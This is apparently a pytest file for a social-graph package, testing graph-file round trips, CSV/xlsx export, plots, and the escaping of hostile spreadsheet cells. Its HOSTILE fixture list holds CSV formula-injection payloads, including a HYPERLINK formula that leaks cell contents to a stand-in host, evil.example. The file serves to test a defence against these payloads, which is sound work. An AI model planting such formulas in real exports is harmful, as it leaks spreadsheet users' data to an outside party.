"""roi.graph.export and plots: GEXF/GraphML round trips, CSV/xlsx with every column, Axes-returning plots."""

from __future__ import annotations

import matplotlib
import networkx as nx
import pandas as pd
import pytest

from roi.errors import ParameterError
from roi.graph import (
    communities,
    export_table,
    follower_graph,
    growth_churn,
    influence,
    write_gexf,
    write_graphml,
)
from roi.graph.plots import plot_community_sizes, plot_followers_vs_pagerank, plot_growth_churn
from roi.tables import conform

matplotlib.use("Agg")


@pytest.fixture
def data():
    accounts = conform("accounts", {
        "platform": ["x", "x"], "account_id": ["1", "2"], "handle": ["acme", "bob"],
        "location": ["NYC", None], "followers_count": [10, None], "verified": [True, None],
        "created_at": ["2020-01-01T00:00Z", None], "observed_at": ["2026-01-01T00:00Z"] * 2,
    })
    follows = conform("follows", {"platform": ["x"] * 3, "follower_id": ["2", "3", "1"],
                                  "followee_id": ["1", "1", "2"], "first_seen": ["2026-01-01T00:00Z"] * 3,
                                  "last_seen": ["2026-01-08T00:00Z"] * 3})
    return {"accounts": accounts, "follows": follows}


@pytest.mark.parametrize("write, read", [(write_gexf, nx.read_gexf), (write_graphml, nx.read_graphml)],
                         ids=["gexf", "graphml"])
def test_graph_round_trips_with_safe_attributes(data, tmp_path, write, read):
    G = follower_graph(data)
    table = influence(G)
    path = write(G, tmp_path / f"g.{write.__name__[6:]}", node_table=table)
    H = read(path)
    assert sorted(H.edges()) == sorted(G.edges())
    assert H.nodes["1"]["handle"] == "acme" and H.nodes["1"]["created_at"].startswith("2020-01-01")
    assert "location" not in H.nodes["2"]  # missing stays missing, never "None"
    assert float(H.nodes["1"]["pagerank"]) == pytest.approx(table.set_index("account_id").loc["1", "pagerank"])
    assert H.edges["2", "1"]["first_seen"].startswith("2026-01-01")


def test_tables_export_every_column_to_csv_and_xlsx(data, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    table = growth_churn(data, "acme").assign(tags=pd.Series([["a", "b"]] * 1, dtype=object))
    csv = pd.read_csv(export_table(table, tmp_path / "growth.csv"))
    assert list(csv.columns) == list(table.columns)
    sheet = openpyxl.load_workbook(export_table(table, tmp_path / "growth.xlsx")).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert header == [f"{c} (UTC)" if c in ("week_start", "week_end") else c for c in table.columns]
    assert [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))][0] == table["week"].iloc[0]
    with pytest.raises(ParameterError, match=".csv or .xlsx"):
        export_table(table, tmp_path / "growth.json")


def test_plots_return_axes(data):
    import matplotlib.pyplot as plt

    G = follower_graph(data)
    for ax in (plot_followers_vs_pagerank(influence(G), followers="in_degree"),
               plot_community_sizes(communities(G)),
               plot_growth_churn(growth_churn(data, "acme"))):
        assert isinstance(ax, matplotlib.axes.Axes)
    fig, ax = plt.subplots()
    assert plot_followers_vs_pagerank(influence(G), ax=ax) is ax
    with pytest.raises(ParameterError, match="lacks column"):
        plot_growth_churn(pd.DataFrame({"week": []}))
    plt.close("all")


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
           "ac\x01me", "nul\x00here", "fine"]


def test_hostile_cells_are_neutralised_in_csv_and_xlsx(tmp_path):
    import openpyxl

    table = pd.DataFrame({"handle": pd.array(HOSTILE, dtype="string"), "bio": HOSTILE,
                          "followers": range(len(HOSTILE)), "=cmd": ["x"] * len(HOSTILE)})
    import csv as csv_module

    with export_table(table, tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv_module.reader(fh))  # Python's reader keeps a quoted carriage return as it is
    csv = pd.DataFrame(rows[1:], columns=rows[0])
    assert csv.columns.tolist() == ["handle", "bio", "followers", "'=cmd"]
    for col in ("handle", "bio"):
        assert csv[col].tolist() == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+1", "'-2+3",
                                     "'@SUM(A1:A2)", "'\tcmd", "'\rcmd", "acme", "nulhere", "fine"]
    sheet = openpyxl.load_workbook(export_table(table, tmp_path / "t.xlsx")).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    # (XML reads a carriage return back as a newline)
    assert [c.value for c in sheet["A"]][1:] == [v.replace("\r", "\n") for v in csv.handle]
    assert [c.value for c in sheet["C"]][1:] == list(range(len(HOSTILE)))  # numbers stay numbers


def test_a_formula_that_slips_past_is_still_stored_as_text(tmp_path):
    # a column of objects that are not str (e.g. a pandas scalar wrapper) is str()-ed by Excel writers:
    # the post-write pass stores any "=" text as a string cell, never a formula
    import openpyxl

    table = pd.DataFrame({"x": ["=1+1"]})
    sheet = openpyxl.load_workbook(export_table(table, tmp_path / "t.xlsx")).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'=1+1"


@pytest.mark.parametrize("writer,reader", [(write_gexf, nx.read_gexf), (write_graphml, nx.read_graphml)])
def test_control_characters_do_not_break_gexf_or_graphml(tmp_path, writer, reader):
    G = nx.DiGraph()
    G.add_node("1", handle="ac\x01me", bio="line\x0bbreak\x00", score=1.5)
    G.add_node("2\x02", handle="=cmd")
    G.add_edge("2\x02", "1", kind="fo\x1bllow")
    H = reader(writer(G, tmp_path / "g.xml"))
    assert H.nodes["1"]["handle"] == "acme" and H.nodes["1"]["bio"] == "linebreak"
    assert H.edges["2", "1"]["kind"] == "follow" and H.nodes["2"]["handle"] == "=cmd"
